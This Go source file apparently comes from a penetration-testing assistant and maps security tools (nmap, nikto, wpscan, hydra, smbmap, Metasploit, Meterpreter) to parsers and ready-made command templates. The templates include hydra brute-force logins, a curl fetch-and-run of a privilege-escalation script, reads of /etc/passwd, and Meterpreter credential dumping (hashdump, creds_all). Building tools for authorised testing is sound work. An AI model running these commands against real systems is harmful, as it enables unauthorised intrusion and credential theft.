package parsers

const (
	conditionHTTP     = `{".*": ["80", "443", "http", "https"]}`
	conditionSMB      = `{".*": ["139", "445", "netbios", "microsoft-ds"]}`
	conditionBrute    = `{".*": ["ftp", "ssh", "http", "RDP", "21", "22", "80", "3389"]}`
	conditionShell    = `{"currenthost": "^(?!.*default).*$"}`
	conditionMeterSes = `{"currenthost": "^(?!.*default).*$", "currentcommand": "meterpreter"}`

	groupHTTP    = "HTTP"
	groupSMB     = "SMB"
	groupBrute   = "Bruteforce attack (hydra)"
	groupPrivesc = "Privilege Escalation Command"
	groupMeter   = "Meterpreter Command"
	groupUseful  = "USEFUL COMMAND"
)

func templates(title string, commands ...string) []Template {
	out := make([]Template, 0, len(commands))
	for _, c := range commands {
		out = append(out, Template{Title: title, Command: c})
	}
	return out
}

func join(groups ...[]Template) []Template {
	var out []Template
	for _, g := range groups {
		out = append(out, g...)
	}
	return out
}

// builtinDefinitions devuelve los parsers en orden de prioridad para la
// selección automática.
func builtinDefinitions() []Definition {
	return []Definition{
		{
			Name:     "nmap",
			Patterns: []string{`nmap .*`, `sudo nmap .*`},
			Templates: join(
				templates("scan welknown ports using nmap", "nmap {host}", "nmap {ipv4}", "nmap {ipv6}"),
				templates("scan all ports using nmap", "nmap -Pn -p- {host}", "nmap -Pn -p- {ipv4}", "nmap -Pn -p- {ipv6}"),
				templates("-A option enables OS detection, version detection, script scanning, and traceroute",
					"nmap -Pn -sV -A -p{port} {host}", "nmap -Pn -sV -A -p{port} {ipv4}", "nmap -Pn -sV -A -p{port} {ipv6}"),
				templates("scan vulnerabiliities using nmap",
					"nmap -Pn -sV -script vuln -p{port} {host}", "nmap -Pn -sV -script vuln -p{port} {ipv4}", "nmap -Pn -sV -script vuln -p{port} {ipv6}"),
				templates("aggressive scan using nmap", "nmap -Pn -A -Pn -T4 {host}", "nmap -Pn -A -Pn -T4 {ipv4}", "nmap -Pn -A -Pn -T4 {ipv6}"),
			),
			Parser: Nmap{},
		},
		{
			Name:     "nikto",
			Group:    groupHTTP,
			Patterns: []string{`nikto -h .*`, `sudo nikto -h .*`},
			Templates: templates("nikto is used to scan a web-server for the vulnerability that can be exploited and can compromise the server.",
				"nikto -h http://{host}/", "nikto -h http://{ipv4}/", "nikto -h http://{ipv6}/",
				"nikto -h http://{host}:{port}/", "nikto -h http://{ipv4}:{port}/", "nikto -h http://{ipv6}:{port}/",
				"nikto -h {url}"),
			Condition:     conditionHTTP,
			RawTerminator: true,
			Parser:        Nikto{},
		},
		{
			Name:     "wpscan",
			Group:    groupHTTP,
			Patterns: []string{`wpscan --url .*`, `sudo wpscan --url .*`},
			Templates: templates("wordpress vulnerability scan by wpscan",
				"wpscan --url http://{host}/  -f cli-no-colour", "wpscan --url http://{ipv4}/ -f cli-no-colour", "wpscan --url {url} -f cli-no-colour",
				"wpscan --url http://{host}/  -f cli-no-colour -e at -e ap -e u", "wpscan --url {url} -f cli-no-colour -e at -e ap -e u",
				"wpscan --url {url} -f cli-no-colour -U $username$ -P $passwordfile$ --force"),
			Condition:     conditionHTTP,
			RawTerminator: true,
			Parser:        WPScan{},
		},
		{
			Name:     "dirb",
			Group:    groupHTTP,
			Patterns: []string{`dirb\s+(-.+\s+)*http`},
			Templates: templates("scan web content by dirb",
				"dirb http://{host}/  -S", "dirb https://{host}/ -S", "dirb http://{ipv4}/ -S", "dirb https://{ipv4}/ -S",
				"dirb http://{host}:{port}/  -S", "dirb http://{ipv4}:{port}/ -S", "dirb {url} -S"),
			Condition: conditionHTTP,
			Parser:    Dirb{},
		},
		{
			Name:     "smbmap",
			Group:    groupSMB,
			Patterns: []string{`smbmap -H .*`, `sudo smbmap -H .*`},
			Templates: templates("scan shared drive via SMB using smbmap",
				"smbmap -H {host}", "smbmap -H {ipv4}", "smbmap -H {ipv6}",
				`smbmap -H {host} -u "<username>" -p "<password>"`, `smbmap -H {ipv4} -u "<username>" -p "<password>"`),
			Condition:     conditionSMB,
			RawTerminator: true,
			Parser:        NewSMBMap(),
		},
		{
			Name:          "smbmap-count",
			Group:         groupSMB,
			Patterns:      []string{`smbmap -H .*`, `sudo smbmap -H .*`},
			Templates:     templates("scan shared drive via SMB using smbmap", "smbmap -H {host}", "smbmap -H {ipv4}", "smbmap -H {ipv6}"),
			Condition:     conditionSMB,
			RawTerminator: true,
			Parser:        NewSMBMapCount(),
		},
		{
			Name:      "smb-version",
			Group:     groupSMB,
			Patterns:  []string{`auxiliary/scanner/smb/smb_version`},
			Templates: templates("Scan smb version via metasploit module",
				`msfconsole -x "use auxiliary/scanner/smb/smb_version; set rhosts {ipv4}; exploit"`,
				`msfconsole -x "use auxiliary/scanner/smb/smb_version; set rhosts {host}; exploit"`),
			Condition:     conditionSMB,
			RawTerminator: true,
			Parser:        SMBVersion{},
		},
		{
			Name:     "hydra",
			Group:    groupBrute,
			Patterns: []string{`hydra *`, `sudo hydra *`},
			Templates: templates("Hydra is a parallelized login cracker which supports numerous protocols to attack.",
				"hydra {host} -l user -P $passwordfile$", "hydra {ipv4} -l user -P $passwordfile$",
				"hydra {host} -l user -P $passwordfile$ {port.name}", "hydra {host} -L $userfile$ -P $passwordfile$",
				"hydra {host} -l user -e nsr", "hydra {host} -L $userfile$ -e nsr {port.name}"),
			Condition: conditionBrute,
			Parser:    Hydra{},
		},
		{
			Name:  "lse",
			Group: groupPrivesc,
			Patterns: []string{`.*lse.sh.*`, `.*./lse.sh.*`, `.*sh lse.sh.*`,
				`sudo .* lse.sh.*`, `sudo .* ./lse.sh.*`, `sudo .* sh ./lse.sh.*`},
			Templates: templates("Linux enumeration tools for privilege escalation. Please download from https://github.com/diego-treitos/linux-smart-enumeration.",
				"./lse.sh -c -i", `curl "http://{localip}/lse.sh" -Lo lse.sh;chmod 700 lse.sh; ./lse.sh -i -c`),
			Condition:     conditionShell,
			RawTerminator: true,
			Parser:        LSE{},
		},
		{
			Name:      "ps",
			Group:     groupPrivesc,
			Patterns:  []string{`ps aux | grep root`},
			Templates: templates("enumerate root process", "ps aux | grep root"),
			Condition: conditionShell,
			Parser:    PS{},
		},
		{
			Name:      "uname",
			Group:     groupPrivesc,
			Patterns:  []string{`uname *`},
			Templates: templates("check kernel version which is important for privesc", "uname -a"),
			Condition: conditionShell,
			Parser:    Uname{},
		},
		{
			Name:      "find",
			Group:     groupPrivesc,
			Patterns:  []string{`find / -perm -u=s -type f 2 *`},
			Templates: templates("find out files which have the SUID bit set", "find / -perm -u=s -type f 2>/dev/null"),
			Condition: conditionShell,
			Parser:    Find{},
		},
		{
			Name:     "cat",
			Group:    groupPrivesc,
			Patterns: []string{`cat /etc/passwd`, `cat /etc/redhat-release`, `cat /etc/os-release`},
			Templates: templates("read data from the file which is important for privesc",
				"cat /etc/passwd | grep -v nologin", "cat /etc/redhat-release", "cat /etc/os-release"),
			Condition: conditionShell,
			Parser:    Cat{},
		},
		{
			Name:      "netstat",
			Group:     groupPrivesc,
			Patterns:  []string{`netstat -antup`},
			Templates: templates("check network service, open port only for local network might be interesting for priv esc", "netstat -antup"),
			Condition: conditionShell,
			Parser:    Netstat{},
		},
		{
			Name:     "meterpreter",
			Group:    groupMeter,
			Patterns: []string{`python *42315.py*`},
			Templates: templates("meterpreter shell command",
				"getsystem", "getprivs", "hashdump", "getuid", "sysinfo", "load kiwi", "creds_all"),
			Condition: conditionMeterSes,
			Parser:    Meterpreter{},
		},
		{
			Name:      "ping",
			Group:     groupUseful,
			Patterns:  []string{`ping *`},
			Templates: templates("test the reachability of a host on an Internet Protocol network", "ping {host}", "ping {ipv4}"),
			Parser:    Ping{},
		},
		{
			Name:      "ip-addr",
			Patterns:  []string{`ip a.*`},
			Templates: templates("ip address", "ip addr"),
			Parser:    IPAddr{},
		},
		{
			Name:      "ip-neigh",
			Patterns:  []string{`ip (-4 )*n.*`},
			Templates: templates("ip neighbor", "ip neigh"),
			Parser:    IPNeigh{},
		},
	}
}
